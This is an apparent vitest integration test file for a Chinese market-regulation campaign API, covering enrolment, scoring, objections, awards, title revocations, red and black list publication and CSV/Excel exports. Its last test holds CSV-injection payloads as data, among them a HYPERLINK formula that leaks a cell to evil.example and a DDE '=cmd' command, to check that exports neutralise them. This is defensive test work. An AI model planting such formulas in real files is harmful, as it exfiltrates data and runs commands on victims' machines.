// The Changxing programme through the REST API: enrolment by CSV (all lines or none) and by filter, the
// 70/30 weight rule at launch, scoring by evaluation groups, the 公示 with objections, the award, titles
// revoked or complained about, 红黑榜 publications (only where the programme allows them, never the same
// list twice), the summary report, CSV exports safe from formula injection, and next year's campaign. On
// Temporal's time-skipping test server (test/helpers-time.ts): the 公示 window ends when the test moves the clock.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { RosterEntry } from '../activities/award.js';
import { uniqueYear, waitFor } from './helpers.js';
import { startTimeSkippingHarness, type TimeHarness } from './helpers-time.js';
import { startApi, type Api } from './api-helpers.js';
import { calendarOpenAt } from './helpers-campaign.js';
import { shanghaiDate } from '../domain/time.js';

let h: TimeHarness;
let api: Api;
const tokens: Record<string, string> = {};
beforeAll(async () => {
  h = await startTimeSkippingHarness();
  api = await startApi(h);
  for (const u of ['coord.changxing', 'coord.zhoushan', 'officer.zhicheng', 'officer.taihu', 'auditor.changxing', 'leader.changxing'])
    tokens[u] = await api.login(u);
});
afterAll(async () => {
  await api?.close();
  await h?.stop();
});

const q = (filter: object) => `filter=${encodeURIComponent(JSON.stringify(filter))}`;
const uscc = async (operatorId: string) => (await h.db.operator.findUniqueOrThrow({ where: { id: operatorId } })).uscc;
const as = (user: string) => ({ token: tokens[user]! });
/** A 1×1 PNG: the smallest file the upload check takes as an image. */
const ONE_PIXEL_PNG = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==';
const post = (user: string, path: string, body?: unknown) => api.call('POST', path, { ...as(user), body });
const DAY = 86_400_000;
/** A calendar with stage `key` open for two months of the test server's clock. */
const openAt = async (key: string) => calendarOpenAt(key, 60 * DAY, 'changxing', await h.now());

async function launch(year: number, openKey: string, operatorIds: string[], settings?: object) {
  const r = await post('coord.changxing', '/campaigns', {
    programme: 'changxing',
    year,
    jurisdictionId: '330522',
    stages: await openAt(openKey),
    reminderLeadHours: 0,
    operatorIds,
    ...(settings ? { settings } : {}),
  });
  expect(r.status, JSON.stringify(r.body)).toBe(201);
  return r.body.id as string;
}

describe('Changxing through the API', () => {
  it('refuses a launch whose weights break the 70/30 rule, and changes nothing', async () => {
    const year = await uniqueYear(h.db);
    const r = await post('coord.changxing', '/campaigns', {
      programme: 'changxing',
      year,
      jurisdictionId: '330522',
      settings: { weights: { live_marketing: { department: 50 } } },
    });
    expect(r.status).toBe(400);
    expect(r.body.fields).toEqual([
      expect.objectContaining({ path: 'settings.weights.live_marketing', messageEn: 'live_marketing: department + third_party must add up to 70, not 80' }),
    ]);
    expect(r.body.messageZh).toContain('权重合计须为 70');
    const typo = await post('coord.changxing', '/campaigns', {
      programme: 'changxing',
      year,
      jurisdictionId: '330522',
      settings: { weights: { live: { department: 40 } }, awardThreshold: 101, titleValidity: 'one year' },
    });
    expect(typo.body.fields.map((f: { path: string }) => f.path)).toEqual(['settings.weights.live', 'settings.awardThreshold', 'settings.titleValidity']);
    expect(await h.db.campaign.count({ where: { year } })).toBe(0);
  });

  it('enrols during mobilization from CSV (every bad line reported, nothing half-imported) and by filter', async () => {
    const year = await uniqueYear(h.db);
    const id = await launch(year, 'mobilization', ['op-cx-001']);
    await waitFor(async () => (await h.db.case.count({ where: { campaignId: id } })) === 1, 'first case projected');
    const path = `/campaigns/${encodeURIComponent(id)}/cases`;
    const bad = [
      '统一社会信用代码,赛道,名称',
      `${await uscc('op-cx-002')},直播营销,太湖某直播间`,
      `${await uscc('op-zs-001')},直播营销,舟山主体`,
      '91330522MA2AB3CD4X,直播营销,校验位错',
      `${await uscc('op-cx-002')},直播营销,重复`,
      `${await uscc('op-cx-003')},外卖,赛道错`,
      `${await uscc('op-cx-001')},直播营销,已纳入`,
    ].join('\n');
    const refused = await post('coord.changxing', `${path}/import`, { csv: bad });
    expect(refused.status).toBe(400);
    expect(refused.body.fields.map((f: { row: number }) => f.row)).toEqual([3, 4, 5, 6, 7]);
    expect(refused.body.fields.map((f: { messageEn: string }) => f.messageEn)).toEqual([
      expect.stringMatching(/line 3: .* is not registered in 330522/),
      expect.stringMatching(/line 4: USCC .* is invalid: the check character is wrong, it should be [0-9A-Z]$/),
      expect.stringMatching(/line 5: .* repeats line 2/),
      expect.stringMatching(/line 6: .*track must be one of/),
      expect.stringMatching(/line 7: .* already enrolled/),
    ]);
    expect(refused.body.messageZh).toContain('未纳入任何经营主体');
    expect(await h.db.case.count({ where: { campaignId: id } })).toBe(1);
    // Enrolment by USCC names the rule each bad code breaks (GB 32100-2015), in both languages.
    const good7 = await uscc('op-cx-007');
    const codes = [
      good7.slice(0, 17),
      `${good7.slice(0, 9)}O${good7.slice(10)}`,
      `${good7.slice(0, 2)}AB${good7.slice(4)}`,
      `${good7.slice(0, 17)}${good7[17] === '0' ? '1' : '0'}`,
    ];
    const reasons = await post('coord.changxing', path, { operators: codes.map((u) => ({ uscc: u })) });
    expect(reasons.status).toBe(400);
    expect(reasons.body.fields.map((f: { messageZh: string }) => f.messageZh)).toEqual([
      `统一社会信用代码「${codes[0]}」无效：长度应为 18 位（现为 17 位）`,
      `统一社会信用代码「${codes[1]}」无效：含不允许的字符「O」（只用数字和大写字母，不使用 I、O、S、V、Z）`,
      `统一社会信用代码「${codes[2]}」无效：第 3–8 位应为行政区划码（6 位数字），现为「AB${good7.slice(4, 8)}」`,
      `统一社会信用代码「${codes[3]}」无效：校验位错误，应为「${good7[17]}」`,
    ]);
    expect(reasons.body.fields.map((f: { messageEn: string }) => f.messageEn)).toEqual([
      `USCC "${codes[0]}" is invalid: it must be 18 characters long, not 17`,
      `USCC "${codes[1]}" is invalid: it contains "O" (only digits and capital letters, never I, O, S, V or Z)`,
      `USCC "${codes[2]}" is invalid: characters 3–8 must be the administrative division code (6 digits), not "AB${good7.slice(4, 8)}"`,
      `USCC "${codes[3]}" is invalid: the check character is wrong, it should be ${good7[17]}`,
    ]);

    // The same as the bureau's spreadsheet export, raw text/csv with a BOM.
    const good = `\uFEFF统一社会信用代码,赛道\n${await uscc('op-cx-002')},直播营销\n${await uscc('op-cx-003')},community_group_buying\n`;
    const imported = await api.call('POST', `${path}/import`, { ...as('coord.changxing'), rawBody: good, contentType: 'text/csv' });
    expect(imported.status, JSON.stringify(imported.body)).toBe(201);
    expect(imported.body).toEqual({ enrolled: 2, caseCount: 3 });
    expect((await waitFor(() => h.db.case.findUnique({ where: { id: `${id}:op-cx-003` } }), 'case projected')).track).toBe('community_group_buying');

    // Everyone of a station not yet enrolled, on one track.
    const byFilter = await post('coord.changxing', path, { filter: { jurisdictionId: '330522004' }, track: 'live_marketing' });
    expect(byFilter.status).toBe(201);
    expect(byFilter.body).toEqual({ enrolled: 5, caseCount: 8 });
    expect((await post('officer.zhicheng', path, { operators: [{ operatorId: 'op-cx-007' }] })).status).toBe(403);
    expect((await post('coord.zhoushan', path, { operators: [{ operatorId: 'op-cx-007' }] })).status).toBe(403);
    const candidates = await waitFor(async () => {
      const r = await api.call('GET', `/campaigns/${encodeURIComponent(id)}/candidates?${q({ enrolled: true })}`, as('coord.changxing'));
      return r.body.length === 8 && r;
    }, 'eight enrolled');
    expect(candidates.headers.get('content-range')).toBe('candidates 0-7/8');
    const enrolment = await h.db.auditEvent.findFirstOrThrow({ where: { campaignId: id, action: 'campaign.cases_enrolled', actorId: 'u-coord-changxing' } });
    expect(enrolment.clause).toContain('培育对象');

    // Enrolment ends with the mobilization stage. A client that will not wait (Prefer: wait=0, as a close
    // of thousands of cases outlasts 20 s) is answered 202 once the campaign has accepted the close.
    const closePath = `/campaigns/${encodeURIComponent(id)}/stages/mobilization/close`;
    const closing = await api.call('POST', closePath, {
      ...as('coord.changxing'),
      body: { reason: '动员部署完成' },
      headers: { prefer: 'respond-async, wait=0' },
    });
    expect(closing.status, JSON.stringify(closing.body)).toBe(202);
    expect(closing.body).toMatchObject({ key: 'mobilization', closing: true });
    const again = await post('coord.changxing', closePath, { reason: '再次结束' });
    expect(again.status).toBe(409);
    expect(again.body.messageZh).toMatch(/^「动员部署」阶段(正在结束，请稍候|已结束，只能提前结束进行中的阶段)$/);
    await waitFor(() => h.db.stage.findFirst({ where: { campaignId: id, key: 'mobilization', status: 'closed', closedEarly: true } }), 'mobilization closed');
    const late = await post('coord.changxing', path, { operators: [{ operatorId: 'op-cx-007' }] });
    expect(late.status).toBe(409);
    expect(late.body).toMatchObject({ messageZh: '「动员部署」阶段已结束，不能再纳入经营主体', messageEn: 'enrolment closed with stage mobilization' });
    await h.env.client.workflow.getHandle(`campaign-${id}`).terminate('test done');
  });

  it('scores, publishes, takes objections, awards, revokes, publishes 红黑榜, reports, and proposes next year', async () => {
    const year = await uniqueYear(h.db);
    // One auditor scores every dimension here (evaluation groups: test/evaluation-groups.test.ts).
    const id = await launch(year, 'evaluation', ['op-cx-001', 'op-cx-002'], { multiDimensionScorers: true });
    const cid = encodeURIComponent(id);
    const [a, d] = [`${id}:op-cx-001`, `${id}:op-cx-002`];
    const scoreTasks = await waitFor(async () => {
      const t = await h.db.task.findMany({ where: { campaignId: id, type: 'score' }, orderBy: { id: 'asc' } });
      return t.length === 10 && t;
    }, 'score tasks');
    const first = encodeURIComponent(scoreTasks[0]!.id);
    expect((await post('officer.zhicheng', `/tasks/${first}/complete`, { score: 90 })).status).toBe(403);
    const withTotal = await post('auditor.changxing', `/tasks/${first}/complete`, { score: 90, total: 100 });
    expect(withTotal.status).toBe(400);
    expect(withTotal.body.messageEn).toMatch(/total/);
    for (const t of scoreTasks) {
      const value = t.caseId === a ? 90 : (t.details as { dimension: string }).dimension === 'department' ? 80 : 90; // d: 32+27+9+9+9 = 86
      expect((await post('auditor.changxing', `/tasks/${encodeURIComponent(t.id)}/complete`, { score: value })).status).toBe(200);
    }
    const cases = await waitFor(async () => {
      const r = await api.call('GET', `/cases?${q({ campaignId: id, proposed: true })}&sort=["totalScore","DESC"]`, as('leader.changxing'));
      return r.body.length === 2 && r.body;
    }, 'totals');
    expect(cases.map((c: { totalScore: number }) => c.totalScore)).toEqual([90, 86]);

    // 红黑榜 are official publications: not before the award is final (nor 总结提升 open), with the reason.
    const early = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind: 'red' });
    expect(early.status).toBe(409);
    expect(early.body).toMatchObject({
      messageZh: '红黑榜须在授予名单确定后或「总结提升」阶段进行期间发布：授予名单尚未确定，「总结提升」阶段尚未开始',
      messageEn:
        'a red or black list is published once the award is final or while stage summary (Summary) is open: the award is not final, stage summary has not started',
    });
    expect((await api.call('GET', `/campaigns/${cid}/award`, as('coord.changxing'))).body.rosterPublishing).toEqual({
      allowed: false,
      messageZh: early.body.messageZh,
      messageEn: early.body.messageEn,
    });
    expect(await h.db.roster.count({ where: { campaignId: id, kind: { in: ['red', 'black'] } } })).toBe(0);

    // 公示 for five days; objections only by the coordinator, resolved before the list is final.
    expect((await post('officer.zhicheng', `/campaigns/${cid}/publicity`, { days: 5 })).status).toBe(403);
    const windowEndsAt = (await h.now()) + 5 * DAY;
    const pub = await post('coord.changxing', `/campaigns/${cid}/publicity`, { windowEndsAt: new Date(windowEndsAt).toISOString() });
    expect(pub.status).toBe(201);
    expect(pub.body.entries.map((e: { caseId: string }) => e.caseId)).toEqual([a, d]);
    const objection = await post('coord.changxing', `/campaigns/${cid}/objections`, { caseId: a, source: '来信', content: '反映售后不到位' });
    expect(objection.status).toBe(201);
    expect((await post('coord.changxing', `/campaigns/${cid}/award`)).status).toBe(409);
    const oid = encodeURIComponent(objection.body.id);
    expect((await post('officer.zhicheng', `/objections/${oid}/resolve`, { decision: 'dismissed', resolution: 'x' })).status).toBe(403);
    expect((await post('coord.changxing', `/objections/${oid}/resolve`, { decision: 'maybe', resolution: 'x' })).status).toBe(400);
    expect((await post('coord.changxing', `/objections/${oid}/resolve`, { decision: 'dismissed', resolution: '经核查售后已整改' })).body.status).toBe(
      'dismissed',
    );
    await h.skipTo(windowEndsAt);
    const award = await post('coord.changxing', `/campaigns/${cid}/award`);
    expect(award.status).toBe(201);
    expect(award.body.titles).toBe(2);
    // Once the award is final the red list may be published: both titles are in force.
    expect((await api.call('GET', `/campaigns/${cid}/award`, as('coord.changxing'))).body.rosterPublishing).toMatchObject({
      allowed: true,
      messageEn: 'may be published: the award is final',
    });
    const red = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind: 'red' });
    expect(red.status, JSON.stringify(red.body)).toBe(201);
    expect(red.body.entries.map((e: { caseId: string }) => e.caseId)).toEqual([a, d]);

    // Titles are seen and acted on within jurisdiction; revocation needs a ground of the notice.
    const mine = await api.call('GET', `/titles?${q({ campaignId: id })}`, as('officer.zhicheng'));
    expect(mine.body.map((t: { caseId: string }) => t.caseId)).toEqual([a]);
    const ta = encodeURIComponent(a);
    expect((await post('officer.taihu', `/titles/${ta}/revoke`, { ground: 'listed_dishonest', evidence: 'x' })).status).toBe(403);
    expect((await post('officer.zhicheng', `/titles/${ta}/revoke`, { ground: 'bad_attitude', evidence: 'x' })).status).toBe(400);
    expect((await post('officer.zhicheng', `/titles/${ta}/revoke`, { ground: 'listed_dishonest' })).status).toBe(400);
    // With a file of the listing: the case's from the revocation's own transaction, its SHA-256 audited.
    const listing = await post('officer.zhicheng', '/attachments', { filename: '异常名录截图.png', contentType: 'image/png', dataBase64: ONE_PIXEL_PNG });
    expect(listing.status, JSON.stringify(listing.body)).toBe(201);
    const revoked = await post('officer.zhicheng', `/titles/${ta}/revoke`, {
      ground: 'listed_dishonest',
      evidence: '2024-11 被列入经营异常名录',
      attachmentIds: [listing.body.id],
    });
    expect(revoked.status).toBe(200);
    expect(revoked.body).toMatchObject({ status: 'revoked', revokedGround: 'listed_dishonest', revokedById: 'u-officer-zhicheng' });
    expect(await h.db.attachment.findUniqueOrThrow({ where: { id: listing.body.id } })).toMatchObject({ caseId: a });
    expect(
      await h.db.auditEvent.findFirst({
        where: { action: 'evidence.attached', entityType: 'title', data: { path: ['attachmentId'], equals: listing.body.id } },
      }),
    ).toMatchObject({
      actorId: 'u-officer-zhicheng',
      data: expect.objectContaining({ sha256: expect.stringMatching(/^[0-9a-f]{64}$/), caseId: a }),
    });
    expect((await post('officer.zhicheng', `/titles/${ta}/complaints`, { kind: 'complaint', description: 'x' })).status).toBe(409);
    const complaint = await post('officer.taihu', `/titles/${encodeURIComponent(d)}/complaints`, {
      kind: 'public_opinion',
      description: '直播间言论引发负面舆情',
    });
    expect(complaint.status).toBe(201);
    expect(complaint.body).toMatchObject({ type: 'interview', jurisdictionId: '330522002', status: 'open' });

    // The case's history: its own decisions and its tasks' completions, each citing the notice (the inbox's
    // own housekeeping, a task created or claimed, cites none).
    const trail = await api.call('GET', `/audit-events?${q({ caseId: a })}&range=[0,99]`, as('leader.changxing'));
    expect(trail.body.map((e: { action: string }) => e.action)).toEqual(
      expect.arrayContaining(['case.enrolled', 'task.completed', 'case.scored', 'objection.dismissed', 'title.granted', 'title.revoked']),
    );
    expect(
      trail.body
        .filter((e: { action: string }) => !['task.created', 'task.claimed'].includes(e.action))
        .every((e: { clause: string | null }) => e.clause?.startsWith('长兴方案')),
    ).toBe(true);

    // 红黑榜: dated publications, each entry citing its ground; a newer one supersedes (a's title revoked).
    const black = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind: 'black' });
    expect(black.body.entries).toEqual([
      expect.objectContaining({ caseId: a, ground: 'listed_dishonest', groundName: expect.stringContaining('经营异常名录') }),
    ]);
    const red2 = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind: 'red' });
    expect(red2.body.seq).toBe(2);
    expect(red2.body.entries.map((e: { caseId: string }) => e.caseId)).toEqual([d]);
    expect((await api.call('GET', `/rosters/${encodeURIComponent(red.body.id)}`, as('leader.changxing'))).body.superseded).toBe(true);
    // The same entries again are not a new publication.
    for (const [kind, seq, name] of [
      ['red', 2, '红榜'],
      ['black', 1, '黑榜'],
    ] as const) {
      const again = await post('coord.changxing', `/campaigns/${cid}/rosters`, { kind });
      expect(again.status).toBe(409);
      expect(again.body.messageZh).toMatch(new RegExp(`^与现行${name}（第 ${seq} 期，\\d{4}-\\d{2}-\\d{2} 发布）内容相同，无需重新发布$`));
      expect(again.body.messageEn).toMatch(/nothing new to publish$/);
    }
    expect(await h.db.roster.count({ where: { campaignId: id, kind: { in: ['red', 'black'] } } })).toBe(3);
    expect((await post('officer.zhicheng', `/campaigns/${cid}/rosters`, { kind: 'red' })).status).toBe(403);
    const csv = await api.call('GET', `/rosters/${encodeURIComponent(black.body.id)}/csv`, as('leader.changxing'));
    expect(csv.headers.get('content-type')).toMatch(/text\/csv/);
    expect(csv.body).toMatch(/^序号,经营主体/);
    const raw = await fetch(`${api.url}/api/rosters/${encodeURIComponent(black.body.id)}/csv`, {
      headers: { authorization: `Bearer ${tokens['leader.changxing']}` },
    });
    expect([...new Uint8Array(await raw.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]); // BOM: Excel reads UTF-8
    expect(csv.body).toContain('经营异常名录');
    // Its Excel twin: the same lines, a sheet named for the list.
    const xlsx = await fetch(`${api.url}/api/rosters/${encodeURIComponent(black.body.id)}/xlsx`, {
      headers: { authorization: `Bearer ${tokens['leader.changxing']}` },
    });
    expect(xlsx.headers.get('content-type')).toContain('spreadsheetml');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(await xlsx.arrayBuffer());
    expect(book.worksheets[0]!.name).toBe('黑榜 第1期');
    expect((book.worksheets[0]!.getRow(1).values as unknown[]).slice(1, 3)).toEqual(['序号', '经营主体']);
    expect(book.worksheets[0]!.getRow(2).getCell(1).value).toBe(1);
    expect(JSON.stringify(book.worksheets[0]!.getRow(2).values)).toContain('经营异常名录');

    // 总结: figures from the live data, as JSON and CSV.
    const summary = await api.call('GET', `/campaigns/${cid}/summary`, as('leader.changxing'));
    expect(summary.body.cases).toMatchObject({ enrolled: 2, scored: 2, proposed: 2 });
    expect(summary.body.titles).toEqual({ active: 1, revoked: 1 });
    expect(summary.body.scoreDistribution.filter((b: { count: number }) => b.count > 0)).toEqual([
      { label: '85–89.99', from: 85, to: 90, count: 1 },
      { label: '90–100', from: 90, to: 100, count: 1 },
    ]);
    expect(summary.body.awardList.map((e: { caseId: string }) => e.caseId)).toEqual([a, d]);
    expect((await api.call('GET', `/campaigns/${cid}/summary/csv`, as('leader.changxing'))).body).toContain('授予名单');
    const summaryBook = new ExcelJS.Workbook();
    await summaryBook.xlsx.load(
      await (await fetch(`${api.url}/api/campaigns/${cid}/summary/xlsx`, { headers: { authorization: `Bearer ${tokens['leader.changxing']}` } })).arrayBuffer(),
    );
    expect(summaryBook.worksheets.map((w) => w.name)).toEqual(['阶段', '案件', '检查发现', '得分分布', '授予名单']);
    expect(summaryBook.getWorksheet('授予名单')!.actualRowCount).toBe(3);

    // Next year: calendar moved a year, settings copied, last year's holders and revoked operators shown.
    const before = JSON.stringify(await h.db.campaign.findUniqueOrThrow({ where: { id } }));
    const successor = await api.call('GET', `/campaigns/${cid}/successor`, as('coord.changxing'));
    expect(successor.status).toBe(200);
    const next = successor.body.launch;
    expect(next).toMatchObject({ programme: 'changxing', year: year + 1, jurisdictionId: '330522', previousCampaignId: id });
    // (Test campaigns take unique years but run on today's calendar: each date moves one year on.)
    const stages = await h.db.stage.findMany({ where: { campaignId: id }, orderBy: { seq: 'asc' } });
    const oneYearOn = (d: Date) => `${Number(shanghaiDate(d.getTime()).slice(0, 4)) + 1}${shanghaiDate(d.getTime()).slice(4)}`;
    expect(next.stages).toEqual(stages.map((s) => ({ key: s.key, startsAt: oneYearOn(s.startsAt), dueAt: oneYearOn(s.dueAt) })));
    expect(next.settings).toEqual(JSON.parse(before).definition.settings);
    expect(successor.body.titleHolders).toEqual([expect.objectContaining({ operatorId: 'op-cx-002', status: 'active', expiresAt: expect.any(String) })]);
    expect(successor.body.flagged).toEqual([
      expect.objectContaining({ operatorId: 'op-cx-001', kind: 'revoked', groundName: expect.stringContaining('经营异常') }),
    ]);
    // (A year of its own: year + 1 belongs to another test of this run.)
    const launched = await post('coord.changxing', '/campaigns', {
      ...next,
      year: await uniqueYear(h.db),
      stages: await openAt('mobilization'),
      operatorIds: ['op-cx-001', 'op-cx-002'],
    });
    expect(launched.status, JSON.stringify(launched.body)).toBe(201);
    const flags = await waitFor(async () => {
      const r = await api.call('GET', `/campaigns/${encodeURIComponent(launched.body.id)}/candidates?${q({ enrolled: true })}`, as('coord.changxing'));
      return r.body.length === 2 && r;
    }, 'enrolled candidates');
    // (Other tests' campaigns of this run flag these operators too: look at this campaign's flags.)
    const fromThisCampaign = (o: { flags: { kind: string; campaignId: string }[] }) => o.flags.filter((f) => f.campaignId === id).map((f) => f.kind);
    expect(Object.fromEntries(flags.body.map((o: { id: string; flags: { kind: string; campaignId: string }[] }) => [o.id, fromThisCampaign(o)]))).toEqual({
      'op-cx-001': ['revoked'],
      'op-cx-002': ['title_holder'],
    });
    expect(JSON.stringify(await h.db.campaign.findUniqueOrThrow({ where: { id } }))).toBe(before);
    for (const c of [id, launched.body.id]) await h.env.client.workflow.getHandle(`campaign-${c}`).terminate('test done');
  });

  it('publishes 红黑榜 while 总结提升 is open even before an award, and not while 集中治理 is', async () => {
    const launchBare = async (openKey: string) => {
      const r = await post('coord.changxing', '/campaigns', {
        programme: 'changxing',
        year: await uniqueYear(h.db),
        jurisdictionId: '330522',
        stages: await openAt(openKey),
        reminderLeadHours: 0,
        // One case: the whole register would open and close every earlier stage's work for each operator
        // first, which is not what this test is about.
        operatorIds: ['op-cx-001'],
      });
      expect(r.status, JSON.stringify(r.body)).toBe(201);
      await waitFor(() => h.db.stage.findFirst({ where: { campaignId: r.body.id, key: openKey, status: 'open' } }), `${openKey} open`);
      return r.body.id as string;
    };
    const [during, summary] = [await launchBare('rectification'), await launchBare('summary')];
    const refused = await post('coord.changxing', `/campaigns/${encodeURIComponent(during)}/rosters`, { kind: 'black' });
    expect(refused.status).toBe(409);
    expect(refused.body.messageZh).toContain('「总结提升」阶段尚未开始');
    const sid = encodeURIComponent(summary);
    expect((await api.call('GET', `/campaigns/${sid}/award`, as('coord.changxing'))).body.rosterPublishing).toEqual({
      allowed: true,
      messageZh: '可以发布：「总结提升」阶段进行中',
      messageEn: 'may be published: stage summary is open',
    });
    const black = await post('coord.changxing', `/campaigns/${sid}/rosters`, { kind: 'black' });
    expect(black.status, JSON.stringify(black.body)).toBe(201);
    expect(black.body).toMatchObject({ kind: 'black', seq: 1, entries: [] });
    expect((await post('coord.changxing', `/campaigns/${sid}/rosters`, { kind: 'black' })).status).toBe(409); // the same (empty) list
    const audit = await h.db.auditEvent.findMany({ where: { campaignId: summary, action: 'roster.published' } });
    expect(audit.map((e) => [e.entityId, e.actorId, e.clause])).toEqual([
      [black.body.id, 'u-coord-changxing', '长兴方案 四、工作要求（三）（红黑榜，定期公示）'],
    ]);
    for (const c of [during, summary]) await h.env.client.workflow.getHandle(`campaign-${c}`).terminate('test done');
  });

  it('writes formula-like cells of its CSVs as text (OWASP CSV injection): a leading quote, numbers kept', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
    const r = await post('coord.changxing', '/campaigns', {
      programme: 'changxing',
      year: await uniqueYear(h.db),
      jurisdictionId: '330522',
      name: formula,
      stages: await openAt('mobilization'),
      reminderLeadHours: 0,
    });
    expect(r.status, JSON.stringify(r.body)).toBe(201);
    const id = r.body.id as string;
    // Lists as a hostile register would make them (names and codes are typed by people outside the bureau).
    const entry = (n: number, over: Partial<RosterEntry>): RosterEntry => ({
      caseId: `${id}:x${n}`,
      operatorId: `x${n}`,
      operatorName: `主体${n}`,
      uscc: '',
      jurisdictionId: '330522001',
      jurisdictionName: '雉城市场监管所',
      track: null,
      totalScore: 90,
      ground: 'title',
      groundName: '称号有效',
      since: '2100-01-01',
      ...over,
    });
    const entries = [
      entry(1, { operatorName: formula, uscc: '+8613800000000', totalScore: -3 }),
      entry(2, { operatorName: '@SUM(A1:A9)', uscc: '-1+1', track: '\t=1+1', groundName: "\r=cmd|'/c calc'!A1" }),
      entry(3, { operatorName: '普通主体 = 正常', groundName: 'a-b' }),
    ];
    await h.db.roster.createMany({
      data: ['red', 'award'].map((kind) => ({
        id: `${id}:${kind}:1`,
        campaignId: id,
        kind,
        seq: 1,
        publishedAt: new Date(),
        publishedById: 'u-coord-changxing',
        entries: entries as object[],
      })),
    });
    const download = async (path: string) => {
      const res = await fetch(`${api.url}/api${path}`, { headers: { authorization: `Bearer ${tokens['leader.changxing']}` } });
      expect(res.status).toBe(200);
      const text = Buffer.from(await res.arrayBuffer()).toString('utf8');
      expect(text.startsWith('\uFEFF')).toBe(true);
      return { text, rows: parse(text.slice(1), { relax_column_count: true }) as string[][] };
    };
    const roster = await download(`/rosters/${encodeURIComponent(`${id}:red:1`)}/csv`);
    expect(roster.rows.slice(1)).toEqual([
      ['1', `'${formula}`, "'+8613800000000", '雉城市场监管所', '', '-3', '称号有效', '2100-01-01'],
      ['2', "'@SUM(A1:A9)", "'-1+1", '雉城市场监管所', "'\t=1+1", '90', "'\r=cmd|'/c calc'!A1", '2100-01-01'],
      ['3', '普通主体 = 正常', '', '雉城市场监管所', '', '90', 'a-b', '2100-01-01'],
    ]);
    expect(roster.text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""点击查看"")"`); // quoted as well
    const summary = await download(`/campaigns/${encodeURIComponent(id)}/summary/csv`);
    expect(summary.rows[0]).toEqual([`'${formula}`]);
    const awarded = summary.rows.slice(summary.rows.findIndex((row) => row[0] === '授予名单') + 1);
    expect(awarded.map((row) => row[0])).toEqual([`'${formula}`, "'@SUM(A1:A9)", '普通主体 = 正常']);
    expect(awarded[0]).toEqual([`'${formula}`, "'+8613800000000", '雉城市场监管所', '-3']);
    await h.env.client.workflow.getHandle(`campaign-${id}`).terminate('test done');
  });
});
